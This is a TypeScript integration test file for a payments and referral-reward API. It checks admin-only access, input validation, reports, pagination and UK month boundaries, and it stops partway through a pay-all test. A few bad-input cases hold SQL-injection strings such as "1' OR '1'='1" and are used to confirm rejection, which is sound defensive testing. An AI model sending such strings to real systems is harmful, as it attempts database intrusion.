/**
 * Payments & Reporting API (issue 5), against the real route handlers and a real PostgreSQL.
 *
 * Every test works in its own calendar month (or filters by its own clients), because the test file shares one
 * database: 2024-01 empty, 2024-03 grouping, 2024-05/06 pay-all, 2024-07 concurrency, 2024-08 atomicity,
 * 2024-09 the report CSV, 2024-10 the audit log, 2024-11 access and bad input, 2025-02 to 2026-01 month boundaries.
 */
import { NextRequest } from 'next/server';
import { PATCH as patchClientRoute } from '@/app/api/admin/clients/[id]/route';
import { POST as createClientRoute } from '@/app/api/admin/clients/route';
import { GET as auditCsvRoute } from '@/app/api/payments/audit.csv/route';
import { GET as auditRoute } from '@/app/api/payments/audit/route';
import { GET as outstandingRoute } from '@/app/api/payments/outstanding/route';
import { POST as payAllRoute } from '@/app/api/payments/pay-all/route';
import { GET as reportCsvRoute } from '@/app/api/payments/report.csv/route';
import { GET as reportRoute } from '@/app/api/payments/report/route';
import { DELETE as undoPaymentRoute, POST as markPaidRoute } from '@/app/api/referrals/[id]/payment/route';
import { PATCH as patchReferralRoute } from '@/app/api/referrals/[id]/route';
import { POST as createReferralRoute } from '@/app/api/referrals/route';
import { db } from '@/lib/db';
import type { ClientDto } from '@/lib/dto/clients';
import type { PaymentReportDto } from '@/lib/dto/payments';
import { formatDateTime } from '@/lib/format';
import { ALREADY_PAID_TEXT } from '@/lib/services/referral-status';
import { currentUkMonth } from '@/lib/uk-time';
import { parseCsv } from '../support/csv';
import { setUpTestDatabase } from '../support/db';
import { call, makeStaff, ORIGIN, type TestStaff } from '../support/http';

setUpTestDatabase();

const SIGN_IN_TEXT = 'You need to sign in.';
const ADMIN_ONLY_TEXT = 'Only a full admin can do this.';
const CLIENT_NOT_FOUND_TEXT = 'That client does not exist.';
const SERVER_ERROR_TEXT = 'Something went wrong on our side. Please try again.';
const YEAR_TEXT = 'year must be a year such as 2025';
const YEAR_RANGE_TEXT = 'year must be between 2024 and next year';
const MONTH_TEXT = 'month must be 1 (January) to 12 (December)';
const LIMIT_TEXT = 'limit must be 1 to 200';
const CURSOR_TEXT = /^cursor is not valid/;
const CLIENT_ID_TEXT = 'clientId must be a client id';
const ISO = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/;
const CARD = /^SC-[A-Z0-9]{4}-[A-Z0-9]{4}-[A-Z0-9]{4}$/;
const HOUR = 3_600_000;
const DAY = 24 * HOUR;
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

let staff: TestStaff;
let admin: TestStaff;
let admin2: TestStaff;
beforeAll(async () => {
  staff = await makeStaff();
  admin = await makeStaff({ isFullAdmin: true });
  admin2 = await makeStaff({ isFullAdmin: true });
});

// ---------- helpers: everything is made through the app's own routes, dates are set in the database ----------

let n = 0;
const uniqueEmail = (name: string) => {
  n += 1;
  return `${name.toLowerCase().replace(/[^a-z]/g, '') || 'x'}.${n}@example.com`;
};

/** A client made through the API (names title-cased), with BACS details set through the API when asked. */
async function newClient(
  firstName: string,
  lastName: string,
  options: { bank?: boolean } = {},
): Promise<ClientDto> {
  const res = await call(createClientRoute, {
    body: { firstName, lastName, email: uniqueEmail(firstName) },
    cookie: staff.cookie,
  });
  if (res.status !== 201) throw new Error(`client not created: ${res.status} ${JSON.stringify(res.body)}`);
  const client = res.body as ClientDto;
  if (options.bank) {
    const bank = await call(patchClientRoute, {
      method: 'PATCH',
      path: `/api/admin/clients/${client.id}`,
      params: { id: client.id },
      body: { sortCode: '12-34-56', accountNumber: '12345678', accountName: `${firstName} ${lastName}` },
      cookie: admin.cookie,
    });
    if (bank.status !== 200)
      throw new Error(`bank details not set: ${bank.status} ${JSON.stringify(bank.body)}`);
  }
  return client;
}

/** A client whose names are stored exactly as given (the API would title-case them). */
async function rawNamedClient(firstName: string, lastName: string, options: { bank?: boolean } = {}) {
  const client = await newClient('placeholder', 'name', options);
  await db.client.update({ where: { id: client.id }, data: { firstName, lastName } });
  return { ...client, firstName, lastName };
}

/** A pending referral of a new lead (the lead's names stored as given). */
async function pendingReferral(client: ClientDto, lead: [string, string] = ['Amy', 'Pond']): Promise<string> {
  const row = await db.lead.create({
    data: { firstName: lead[0], lastName: lead[1], email: uniqueEmail(lead[0]), phone: '+447123456789' },
  });
  const res = await call(createReferralRoute, {
    path: '/api/referrals',
    body: { referrerId: client.id, leadId: row.id },
    cookie: staff.cookie,
  });
  if (res.status !== 201) throw new Error(`referral not created: ${res.status} ${JSON.stringify(res.body)}`);
  return res.body.id as string;
}

const patchReferral = (id: string, body: unknown) =>
  call(patchReferralRoute, {
    method: 'PATCH',
    path: `/api/referrals/${id}`,
    params: { id },
    body,
    cookie: staff.cookie,
  });

/**
 * A conversion ('Story Started' through the API), optionally moved to another conversion instant in the
 * database (the API always records "now").
 */
async function conversion(
  client: ClientDto,
  options: { lead?: [string, string]; amount?: number; at?: string | Date } = {},
): Promise<string> {
  const id = await pendingReferral(client, options.lead);
  // The amount is the reward fixed when the friend was referred (the setting then): staff start the story
  // with it, as the dashboard does. Another amount at Story Started is a full admin's change (issue 28).
  await db.referral.update({
    where: { id },
    data: { rewardPence: Math.round((options.amount ?? 200) * 100) },
  });
  const res = await patchReferral(id, { status: 'Payment Due', rewardAmount: options.amount ?? 200 });
  if (res.status !== 200) throw new Error(`not converted: ${res.status} ${JSON.stringify(res.body)}`);
  if (options.at) await db.referral.update({ where: { id }, data: { convertedAt: new Date(options.at) } });
  return id;
}

const markPaid = (id: string, cookie = staff.cookie) =>
  call(markPaidRoute, { method: 'POST', path: `/api/referrals/${id}/payment`, params: { id }, cookie });
const undoPayment = (id: string, cookie = admin.cookie) =>
  call(undoPaymentRoute, { method: 'DELETE', path: `/api/referrals/${id}/payment`, params: { id }, cookie });

async function paid(id: string) {
  const res = await markPaid(id);
  if (res.status !== 200) throw new Error(`not paid: ${res.status} ${JSON.stringify(res.body)}`);
  return res.body as { auditEntry: { id: string } };
}

const report = (year: number | string, month: number | string, cookie = admin.cookie) =>
  call(reportRoute, { path: `/api/payments/report?year=${year}&month=${month}`, cookie });
const outstanding = (cookie = admin.cookie) =>
  call(outstandingRoute, { path: '/api/payments/outstanding', cookie });
const payAll = (body: unknown, cookie = admin.cookie) =>
  call(payAllRoute, { path: '/api/payments/pay-all', body, cookie });
const auditPage = (query = '', cookie = admin.cookie) =>
  call(auditRoute, { path: `/api/payments/audit${query}`, cookie });

// eslint-disable-next-line @typescript-eslint/no-explicit-any
const groupOf = (body: any, clientId: string) =>
  (body.groups as { clientId: string }[]).find((g) => g.clientId === clientId) as
    { clientId: string; payments: { id: string }[]; [key: string]: unknown } | undefined;

const rowOf = (id: string) => db.referral.findUniqueOrThrow({ where: { id } });
const entriesOf = (referralIds: string[]) =>
  db.paymentAuditEntry.findMany({ where: { referralId: { in: referralIds } } });
const auditCount = () => db.paymentAuditEntry.count();

/**
 * Calls a CSV route and keeps the raw bytes: the test helper `call` decodes the body as text, and a text
 * decoder drops the byte-order mark this test must see.
 */
async function download(handler: typeof reportCsvRoute, path: string, cookie = admin.cookie) {
  const req = new NextRequest(new URL(path, ORIGIN), {
    headers: { cookie, 'x-forwarded-for': '127.0.0.1' },
  });
  const res = await handler(req, { params: Promise.resolve({}) });
  const bytes = Buffer.from(await res.arrayBuffer());
  return { status: res.status, headers: res.headers, bytes, text: bytes.toString('utf8') };
}

/** The date (YYYY-MM-DD) of an instant in UTC and in the UK. */
function datesOf(t: number): string[] {
  const uk = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/London' }).format(new Date(t));
  return [new Date(t).toISOString().slice(0, 10), uk];
}

// ---------- access ----------

describe('access: full admins only', () => {
  let client: ClientDto;
  let referralId: string;
  beforeAll(async () => {
    client = await newClient('alice', 'access');
    referralId = await conversion(client, { at: '2024-11-12T12:00:00Z' });
  });

  const routes = [
    ['GET /api/payments/outstanding', outstandingRoute, '/api/payments/outstanding', false],
    ['GET /api/payments/report', reportRoute, '/api/payments/report?year=2024&month=11', false],
    ['GET /api/payments/report.csv', reportCsvRoute, '/api/payments/report.csv?year=2024&month=11', false],
    ['POST /api/payments/pay-all', payAllRoute, '/api/payments/pay-all', true],
    ['GET /api/payments/audit', auditRoute, '/api/payments/audit', false],
    ['GET /api/payments/audit.csv', auditCsvRoute, '/api/payments/audit.csv', false],
  ] as const;

  it.each(routes)(
    '%s answers 401 signed out and 403 to staff who are not full admins, revealing and writing nothing',
    async (_, handler, path, hasBody) => {
      const body = hasBody ? { clientId: client.id, year: 2024, month: 11 } : undefined;
      const before = await auditCount();

      const signedOut = await call(handler, { path, body });
      expect(signedOut.status).toBe(401);
      expect(signedOut.body).toEqual({ message: SIGN_IN_TEXT });
      expect(signedOut.headers.get('content-type')).toMatch(/^application\/json/);

      const asStaff = await call(handler, { path, body, cookie: staff.cookie });
      expect(asStaff.status).toBe(403);
      expect(asStaff.body).toEqual({ message: ADMIN_ONLY_TEXT });
      expect(asStaff.headers.get('content-type')).toMatch(/^application\/json/);
      expect(asStaff.headers.get('content-disposition')).toBeNull();

      expect(await rowOf(referralId)).toMatchObject({ rewardPaid: false, paidAt: null });
      expect(await auditCount()).toBe(before);
    },
  );

  it.each(routes)('%s answers a full admin', async (_, handler, path, hasBody) => {
    const body = hasBody ? { clientId: client.id, year: 2024, month: 11 } : undefined;
    const res = await call(handler, { path, body, cookie: admin.cookie });
    expect(res.status).toBe(200);
  });
});

// ---------- bad input ----------

describe('bad input: 400 with a clear message, nothing written', () => {
  const nextYear = currentUkMonth().year + 1;
  const badPeriods: [string, string | RegExp][] = [
    ['year=2025', MONTH_TEXT],
    ['month=7', YEAR_TEXT],
    ['', YEAR_TEXT],
    ['year=&month=7', YEAR_TEXT],
    ['year=abc&month=7', YEAR_TEXT],
    ['year=2025.5&month=7', YEAR_TEXT],
    ['year=2023&month=12', YEAR_RANGE_TEXT],
    [`year=${nextYear + 1}&month=1`, YEAR_RANGE_TEXT],
    ['year=99999999999999999999&month=1', /^year must/],
    ['year=2025&month=July', MONTH_TEXT],
    ['year=2025&month=0', MONTH_TEXT],
    ['year=2025&month=13', MONTH_TEXT],
    ['year=2025&month=-1', MONTH_TEXT],
    ['year=2025&month=1.5', MONTH_TEXT],
    ["year=2025&month=7'%20OR%201=1", MONTH_TEXT],
  ];

  it.each(badPeriods)('GET /api/payments/report?%s → 400', async (query, message) => {
    const res = await call(reportRoute, { path: `/api/payments/report?${query}`, cookie: admin.cookie });
    expect(res.status).toBe(400);
    expect(res.body.message).toEqual(typeof message === 'string' ? message : expect.stringMatching(message));
    expect(res.body.fieldErrors).toEqual(expect.any(Object));
  });

  it.each(badPeriods)('GET /api/payments/report.csv?%s → 400 (JSON, no file)', async (query, message) => {
    const res = await call(reportCsvRoute, {
      path: `/api/payments/report.csv?${query}`,
      cookie: admin.cookie,
    });
    expect(res.status).toBe(400);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(res.headers.get('content-disposition')).toBeNull();
    expect(res.body.message).toEqual(typeof message === 'string' ? message : expect.stringMatching(message));
  });

  it('accepts the first year (2024) and next year', async () => {
    for (const [year, month] of [
      [2024, 1],
      [nextYear, 12],
    ] as const) {
      const res = await report(year, month);
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ year, month });
    }
  });

  const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  it.each([
    ['limit=0', LIMIT_TEXT],
    ['limit=201', LIMIT_TEXT],
    ['limit=-5', LIMIT_TEXT],
    ['limit=abc', LIMIT_TEXT],
    ['limit=2.5', LIMIT_TEXT],
    ['cursor=garbage', CURSOR_TEXT],
    [`cursor=${'A'.repeat(201)}`, CURSOR_TEXT],
    [`cursor=${encodeURIComponent("' OR 1=1 --")}`, CURSOR_TEXT],
    [`cursor=${b64({ at: '2025-01-01T00:00:00.000Z' })}`, CURSOR_TEXT],
    [`cursor=${b64(['not a date', '0192f5e0-0000-7000-8000-000000000000'])}`, CURSOR_TEXT],
    [`cursor=${b64(['2025-01-01T00:00:00.000Z', 'not-an-id'])}`, CURSOR_TEXT],
    [`cursor=${b64(['2025-01-01T00:00:00.000Z', 42])}`, CURSOR_TEXT],
  ])('GET /api/payments/audit?%s → 400', async (query, message) => {
    const res = await auditPage(`?${query}`);
    expect(res.status).toBe(400);
    expect(res.body.message).toEqual(typeof message === 'string' ? message : expect.stringMatching(message));
  });

  describe('POST /api/payments/pay-all', () => {
    let client: ClientDto;
    let referralId: string;
    beforeAll(async () => {
      client = await newClient('bob', 'badinput');
      referralId = await conversion(client, { at: '2024-11-20T12:00:00Z' });
    });

    const cases: [string, () => unknown, string | RegExp][] = [
      ['a malformed clientId', () => ({ clientId: 'nope', year: 2024, month: 11 }), CLIENT_ID_TEXT],
      ['a numeric clientId', () => ({ clientId: 42, year: 2024, month: 11 }), CLIENT_ID_TEXT],
      ['an SQL-ish clientId', () => ({ clientId: "1' OR '1'='1", year: 2024, month: 11 }), CLIENT_ID_TEXT],
      ['no clientId', () => ({ year: 2024, month: 11 }), CLIENT_ID_TEXT],
      ['no year', () => ({ clientId: client.id, month: 11 }), YEAR_TEXT],
      ['no month', () => ({ clientId: client.id, year: 2024 }), MONTH_TEXT],
      ['a year out of range', () => ({ clientId: client.id, year: 2023, month: 11 }), YEAR_RANGE_TEXT],
      ['a month out of range', () => ({ clientId: client.id, year: 2024, month: 13 }), MONTH_TEXT],
      ['a month that is not a number', () => ({ clientId: client.id, year: 2024, month: 'Nov' }), MONTH_TEXT],
      ['a year sent as text', () => ({ clientId: client.id, year: '2024', month: 11 }), YEAR_TEXT],
      [
        'an extra field',
        () => ({ clientId: client.id, year: 2024, month: 11, referralIds: ['x'] }),
        /referralIds/,
      ],
      ['an empty object', () => ({}), CLIENT_ID_TEXT],
    ];

    it.each(cases)('answers 400 for %s, paying nothing', async (_, body, message) => {
      const before = await auditCount();
      const res = await payAll(body());
      expect(res.status).toBe(400);
      expect(res.body.message).toEqual(
        typeof message === 'string' ? message : expect.stringMatching(message),
      );
      expect(res.body.fieldErrors).toEqual(expect.any(Object));
      expect(await rowOf(referralId)).toMatchObject({ rewardPaid: false, paidAt: null });
      expect(await auditCount()).toBe(before);
    });

    it('answers 400 for a body that is not JSON or is empty, paying nothing', async () => {
      const before = await auditCount();
      const notJson = await call(payAllRoute, {
        path: '/api/payments/pay-all',
        rawBody: `{clientId: ${client.id}`,
        cookie: admin.cookie,
      });
      expect(notJson.status).toBe(400);
      expect(notJson.body.message).toBe('The request body is not valid JSON.');
      const empty = await call(payAllRoute, {
        path: '/api/payments/pay-all',
        rawBody: '',
        cookie: admin.cookie,
      });
      expect(empty.status).toBe(400);
      expect(empty.body.message).toBe('The request body is empty: send a JSON object.');
      expect(await rowOf(referralId)).toMatchObject({ rewardPaid: false, paidAt: null });
      expect(await auditCount()).toBe(before);
    });
  });
});

// ---------- outstanding ----------

describe('GET /api/payments/outstanding', () => {
  it('lists only unpaid Payment Due referrals, oldest conversion first, with whole days since conversion', async () => {
    const client = await newClient('oswin', 'oswald');
    const now = Date.now();
    // Days are UK calendar days: 3 days and 2 hours before 00:30 is 4 calendar days. The expected figures are
    // worked out here from the calendar in London, so the test holds at any time of day.
    const ukDate = (ms: number) =>
      new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/London', dateStyle: 'short' }).format(ms);
    const calendarDaysAgo = (ms: number) =>
      Math.round((Date.parse(ukDate(now)) - Date.parse(ukDate(ms))) / DAY);
    const old = await conversion(client, {
      lead: ['Old', 'One'],
      amount: 150,
      at: new Date(now - 40 * DAY - 2 * HOUR),
    });
    const today = await conversion(client, { lead: ['Today', 'Three'], amount: 80.25 });
    const recent = await conversion(client, {
      lead: ['', ''],
      at: new Date(now - 3 * DAY - 2 * HOUR),
    });
    const paidOne = await conversion(client, { lead: ['Paid', 'Four'], at: new Date(now - 50 * DAY) });
    await paid(paidOne);
    await pendingReferral(client, ['Pending', 'Five']);
    const inProgress = await pendingReferral(client, ['Busy', 'Six']);
    expect((await patchReferral(inProgress, { status: 'In Progress' })).status).toBe(200);
    const reverted = await conversion(client, { lead: ['Back', 'Seven'] });
    expect((await patchReferral(reverted, { status: 'pending' })).status).toBe(200);

    const res = await outstanding();
    expect(res.status).toBe(200);
    const mine = (res.body as { clientId: string }[]).filter((r) => r.clientId === client.id);
    const at = async (id: string) => (await rowOf(id)).convertedAt!.toISOString();
    expect(mine).toEqual([
      {
        referralId: old,
        clientId: client.id,
        clientName: 'Oswin Oswald',
        referralName: 'Old One',
        rewardAmount: 150,
        convertedAt: await at(old),
        daysSinceConversion: calendarDaysAgo(now - 40 * DAY - 2 * HOUR),
        bankDetailsHeldAt: null,
        bankDetailsChangedBy: null,
        hasBankDetails: false,
        accountName: null,
        accountEnding: null,
      },
      {
        referralId: recent,
        clientId: client.id,
        clientName: 'Oswin Oswald',
        referralName: 'Unknown Lead',
        rewardAmount: 200,
        convertedAt: await at(recent),
        daysSinceConversion: calendarDaysAgo(now - 3 * DAY - 2 * HOUR),
        bankDetailsHeldAt: null,
        bankDetailsChangedBy: null,
        hasBankDetails: false,
        accountName: null,
        accountEnding: null,
      },
      {
        referralId: today,
        clientId: client.id,
        clientName: 'Oswin Oswald',
        referralName: 'Today Three',
        rewardAmount: 80.25,
        convertedAt: await at(today),
        daysSinceConversion: 0,
        bankDetailsHeldAt: null,
        bankDetailsChangedBy: null,
        hasBankDetails: false,
        accountName: null,
        accountEnding: null,
      },
    ]);

    // The whole list: every unpaid Payment Due referral and nothing else, oldest first.
    const all = res.body as { referralId: string; convertedAt: string }[];
    expect(all).toHaveLength(
      await db.referral.count({ where: { status: 'payment_due', rewardPaid: false } }),
    );
    const times = all.map((r) => r.convertedAt);
    expect([...times].sort()).toEqual(times);
    const rows = await db.referral.findMany({ where: { id: { in: all.map((r) => r.referralId) } } });
    expect(rows).toHaveLength(all.length);
    for (const row of rows) expect(row).toMatchObject({ status: 'payment_due', rewardPaid: false });
  });

  it('drops a referral once it is paid and shows it again when the payment is undone', async () => {
    const client = await newClient('clara', 'outstanding');
    const id = await conversion(client, { at: '2024-12-01T10:00:00Z' });
    const ids = async () =>
      ((await outstanding()).body as { referralId: string }[])
        .map((r) => r.referralId)
        .filter((x) => x === id);
    expect(await ids()).toEqual([id]);
    await paid(id);
    expect(await ids()).toEqual([]);
    expect((await undoPayment(id)).status).toBe(200);
    expect(await ids()).toEqual([id]);
  });
});

// ---------- the monthly report ----------

describe('GET /api/payments/report', () => {
  it('answers an empty month with no groups and zero totals', async () => {
    const res = await report(2024, 1);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      year: 2024,
      month: 1,
      groups: [],
      totalOwed: 0,
      totalPaid: 0,
      clients: 0,
      conversions: 0,
      nextCursor: null,
    });
  });

  it("groups the month's conversions by client, sorted, with totals and decrypted BACS details", async () => {
    const zara = await newClient('zara', 'young', { bank: true });
    const adam = await newClient('adam', 'brown');
    const beth = await newClient('beth', 'clark');

    const z1 = await conversion(zara, { lead: ['Ann', 'Able'], amount: 75.5, at: '2024-03-05T10:00:00Z' });
    const z2 = await conversion(zara, { lead: ['Ben', 'Best'], amount: 124.5, at: '2024-03-20T10:00:00Z' });
    const z3 = await conversion(zara, { lead: ['Cat', 'Cole'], amount: 200, at: '2024-03-10T10:00:00Z' });
    await paid(z2);
    const a1 = await conversion(adam, { lead: ['Dan', 'Dare'], amount: 200, at: '2024-03-15T09:00:00Z' });
    const b1 = await conversion(beth, { lead: ['Eve', 'Ens'], amount: 60, at: '2024-03-31T12:00:00Z' });
    await paid(b1);

    // Not in March: other months, and referrals whose story has not started (or was reverted). The last three
    // are given a March conversion date in the database, so that only their status keeps them out.
    await conversion(zara, { lead: ['Feb', 'Ruary'], at: '2024-02-28T12:00:00Z' });
    await conversion(zara, { lead: ['Apr', 'Il'], at: '2024-04-01T12:00:00Z' });
    await conversion(adam, { lead: ['Mar', 'Ch'], at: '2023-03-15T12:00:00Z' });
    const pending = await pendingReferral(zara, ['Pen', 'Ding']);
    const inProgress = await pendingReferral(zara, ['Inp', 'Rogress']);
    expect((await patchReferral(inProgress, { status: 'In Progress' })).status).toBe(200);
    const reverted = await conversion(adam, { lead: ['Rev', 'Erted'], at: '2024-03-16T12:00:00Z' });
    expect((await patchReferral(reverted, { status: 'pending' })).status).toBe(200);
    for (const id of [pending, inProgress, reverted]) {
      await db.referral.update({ where: { id }, data: { convertedAt: new Date('2024-03-18T12:00:00Z') } });
    }

    // BACS details are stored encrypted.
    const stored = await db.client.findUniqueOrThrow({ where: { id: zara.id } });
    expect(stored.sortCodeEnc).toBeTruthy();
    expect(stored.sortCodeEnc).not.toContain('12-34-56');
    expect(stored.accountNumberEnc).not.toContain('12345678');

    const res = await report(2024, 3);
    expect(res.status).toBe(200);
    const payment = (
      id: string,
      clientId: string,
      name: string,
      amount: number,
      isPaid: boolean,
      at: string,
    ) => ({
      id,
      clientId,
      name,
      rewardAmount: amount,
      paid: isPaid,
      convertedAt: new Date(at).toISOString(),
      paidAt: isPaid ? expect.stringMatching(ISO) : null,
      // No full admin changed these rewards (issue 28).
      rewardChange: null,
    });
    expect(res.body).toEqual({
      year: 2024,
      month: 3,
      groups: [
        {
          clientId: adam.id,
          clientName: 'Adam Brown',
          cardNumber: adam.cardNumber,
          sortCode: null,
          accountNumber: null,
          accountName: null,
          bankDetailsHeldAt: null,
          bankDetailsChangedBy: null,
          sharedBankDetailsWith: [],
          payments: [payment(a1, adam.id, 'Dan Dare', 200, false, '2024-03-15T09:00:00Z')],
          totalOwed: 200,
          totalPaid: 0,
        },
        {
          clientId: beth.id,
          clientName: 'Beth Clark',
          cardNumber: beth.cardNumber,
          sortCode: null,
          accountNumber: null,
          accountName: null,
          bankDetailsHeldAt: null,
          bankDetailsChangedBy: null,
          sharedBankDetailsWith: [],
          payments: [payment(b1, beth.id, 'Eve Ens', 60, true, '2024-03-31T12:00:00Z')],
          totalOwed: 0,
          totalPaid: 60,
        },
        {
          clientId: zara.id,
          clientName: 'Zara Young',
          cardNumber: zara.cardNumber,
          sortCode: '12-34-56',
          accountNumber: '12345678',
          accountName: 'zara young',
          bankDetailsHeldAt: null,
          bankDetailsChangedBy: null,
          sharedBankDetailsWith: expect.any(Array),
          payments: [
            payment(z1, zara.id, 'Ann Able', 75.5, false, '2024-03-05T10:00:00Z'),
            payment(z3, zara.id, 'Cat Cole', 200, false, '2024-03-10T10:00:00Z'),
            payment(z2, zara.id, 'Ben Best', 124.5, true, '2024-03-20T10:00:00Z'),
          ],
          totalOwed: 275.5,
          totalPaid: 124.5,
        },
      ],
      totalOwed: 475.5,
      totalPaid: 184.5,
      clients: 3,
      conversions: 5,
      nextCursor: null,
    });
  });

  it('pages the clients by name (issue 19): every page carries the whole month, and the pages add up to it', async () => {
    // May 2025 (no other test's month): seven clients, some with two conversions, some paid, names in mixed case.
    const names: [string, string][] = [
      ['harry', 'ng'],
      ['Gina', 'Oates'],
      ['ivan', 'Price'],
      ['Cara', 'Quinn'],
      ['dora', 'reyes'],
      ['Ella', 'Stone'],
      ['fay', 'Turner'],
    ];
    let pence = 0;
    for (const [i, [first, last]] of names.entries()) {
      const client = await newClient(first, last);
      const amount = 10 + i + 0.25;
      const one = await conversion(client, { lead: ['Pat', `P${i}`], amount, at: '2025-05-05T10:00:00Z' });
      pence += Math.round(amount * 100);
      if (i % 2 === 0) {
        await conversion(client, { lead: ['Sam', `S${i}`], amount: 5, at: '2025-05-20T10:00:00Z' });
        pence += 500;
      }
      if (i % 3 === 0) await paid(one);
    }

    const whole = await call(reportRoute, {
      path: '/api/payments/report?year=2025&month=5',
      cookie: admin.cookie,
    });
    expect(whole.status).toBe(200);
    const all = whole.body as PaymentReportDto;
    expect(all).toMatchObject({ clients: 7, conversions: 11, nextCursor: null });
    expect(Math.round((all.totalOwed + all.totalPaid) * 100)).toBe(pence);
    // By name, whatever case it was typed in.
    expect(all.groups.map((g) => g.clientName.toLowerCase())).toEqual(
      names.map(([f, l]) => `${f} ${l}`.toLowerCase()).sort(),
    );

    const pages: PaymentReportDto[] = [];
    let cursor: string | null = null;
    do {
      const after: string = cursor ? `&cursor=${encodeURIComponent(cursor)}` : '';
      const res = await call(reportRoute, {
        path: `/api/payments/report?year=2025&month=5&limit=3${after}`,
        cookie: admin.cookie,
      });
      expect(res.status).toBe(200);
      const page = res.body as PaymentReportDto;
      pages.push(page);
      cursor = page.nextCursor;
    } while (cursor && pages.length < 10);

    expect(pages.map((p) => p.groups.length)).toEqual([3, 3, 1]);
    for (const page of pages) {
      // Each page carries the whole month's totals and counts.
      expect(page).toMatchObject({
        totalOwed: all.totalOwed,
        totalPaid: all.totalPaid,
        clients: 7,
        conversions: 11,
      });
    }
    // The pages, one after another, are the whole report: each client once, in order, and their group totals
    // add up to the month's, to the penny.
    const paged = pages.flatMap((p) => p.groups);
    expect(paged).toEqual(all.groups);
    const owed = paged.reduce((sum, g) => sum + Math.round(g.totalOwed * 100), 0);
    const paidPence = paged.reduce((sum, g) => sum + Math.round(g.totalPaid * 100), 0);
    expect([owed, paidPence]).toEqual([Math.round(all.totalOwed * 100), Math.round(all.totalPaid * 100)]);
    expect(paged.reduce((sum, g) => sum + g.payments.length, 0)).toBe(11);
  });

  it.each([
    ['limit=0', 'limit must be a whole number from 1 to 200'],
    ['limit=201', 'limit must be a whole number from 1 to 200'],
    ['limit=ten', 'limit must be a whole number from 1 to 200'],
    ['cursor=not-a-cursor', 'That cursor is not valid: start again from the first page.'],
    [
      `cursor=${Buffer.from('["report","a","x"]').toString('base64url')}`,
      'That cursor is not valid: start again from the first page.',
    ],
    // A NUL in the name would reach PostgreSQL (which cannot hold it in text) and fail as a 500.
    [
      `cursor=${Buffer.from(JSON.stringify(['report', 'a\u0000b', '00000000-0000-4000-8000-000000000000'])).toString('base64url')}`,
      'That cursor is not valid: start again from the first page.',
    ],
  ])('refuses a page asked for with %s (400)', async (query, message) => {
    const res = await call(reportRoute, {
      path: `/api/payments/report?year=2025&month=5&${query}`,
      cookie: admin.cookie,
    });
    expect(res.status).toBe(400);
    expect((res.body as { message: string }).message).toBe(message);
  });

  it('puts each conversion in its UK calendar month (BST and GMT), at both ends of the month', async () => {
    const client = await newClient('tess', 'boundary');
    // [conversion instant (UTC), the UK month it belongs to]
    const cases: [string, string][] = [
      ['2025-02-28T23:30:00.000Z', '2025-02'], // 23:30 GMT on 28 February
      ['2025-03-01T00:30:00.000Z', '2025-03'], // 00:30 GMT on 1 March
      ['2025-03-31T22:30:00.000Z', '2025-03'], // 23:30 BST on 31 March (clocks went forward on the 30th)
      ['2025-03-31T23:00:00.000Z', '2025-04'], // 00:00 BST on 1 April, the first instant of April
      ['2025-06-30T22:30:00.000Z', '2025-06'], // 23:30 BST on 30 June
      ['2025-06-30T23:30:00.000Z', '2025-07'], // 00:30 BST on 1 July
      ['2025-07-31T22:30:00.000Z', '2025-07'], // 23:30 BST on 31 July
      ['2025-07-31T22:59:59.999Z', '2025-07'], // the last millisecond of July in the UK
      ['2025-07-31T23:00:00.000Z', '2025-08'], // 00:00 BST on 1 August
      ['2025-07-31T23:30:00.000Z', '2025-08'], // 00:30 BST on 1 August
      ['2025-09-30T23:30:00.000Z', '2025-10'], // 00:30 BST on 1 October
      ['2025-10-31T23:30:00.000Z', '2025-10'], // 23:30 GMT on 31 October (clocks went back on the 26th)
      ['2025-11-01T00:30:00.000Z', '2025-11'], // 00:30 GMT on 1 November
      ['2025-11-30T23:30:00.000Z', '2025-11'], // 23:30 GMT on 30 November
      ['2025-12-01T00:30:00.000Z', '2025-12'], // 00:30 GMT on 1 December
      ['2025-12-31T23:30:00.000Z', '2025-12'], // 23:30 GMT on 31 December
      ['2026-01-01T00:00:00.000Z', '2026-01'], // midnight GMT, New Year's Day
      ['2026-01-01T00:30:00.000Z', '2026-01'], // 00:30 GMT on 1 January
    ];
    const ids = new Map<string, string>();
    for (const [at] of cases) {
      ids.set(at, await conversion(client, { lead: ['At', at], at }));
    }

    const months: [number, number][] = [];
    for (let m = 1; m <= 12; m += 1) months.push([2025, m]);
    months.push([2026, 1]);
    for (const [year, month] of months) {
      const key = `${year}-${String(month).padStart(2, '0')}`;
      const expected = cases.filter(([, k]) => k === key).map(([at]) => ids.get(at));
      const res = await report(year, month);
      expect(res.status).toBe(200);
      const group = groupOf(res.body, client.id);
      expect({ month: key, ids: group?.payments.map((p) => p.id) ?? [] }).toEqual({
        month: key,
        ids: expected,
      });
    }
  });
});

// ---------- pay-all ----------

describe('POST /api/payments/pay-all', () => {
  it('pays every unpaid conversion of that client in that month, and nothing else, with one audit entry each', async () => {
    const martha = await newClient('martha', 'jones', { bank: true });
    const mickey = await newClient('mickey', 'smith');
    const m1 = await conversion(martha, {
      lead: ['Ada', 'Lovelace'],
      amount: 200,
      at: '2024-05-02T10:00:00Z',
    });
    const m2 = await conversion(martha, {
      lead: ['Alan', 'Turing'],
      amount: 50.25,
      at: '2024-05-20T10:00:00Z',
    });
    // 00:30 BST on 1 May: May in the UK.
    const m3 = await conversion(martha, {
      lead: ['Grace', 'Hopper'],
      amount: 100,
      at: '2024-04-30T23:30:00Z',
    });
    const alreadyPaid = await conversion(martha, { lead: ['Paid', 'Before'], at: '2024-05-10T10:00:00Z' });
    const earlier = await paid(alreadyPaid);
    // 00:30 BST on 1 June and 23:30 BST on 30 April: other months.
    const june = await conversion(martha, { lead: ['Jun', 'E'], at: '2024-05-31T23:30:00Z' });
    const april = await conversion(martha, { lead: ['Apr', 'Il'], at: '2024-04-30T22:30:00Z' });
    const otherClient = await conversion(mickey, { lead: ['Mick', 'Ey'], at: '2024-05-15T10:00:00Z' });
    const untouched = [june, april, otherClient];
    const before = await auditCount();

    const from = Date.now();
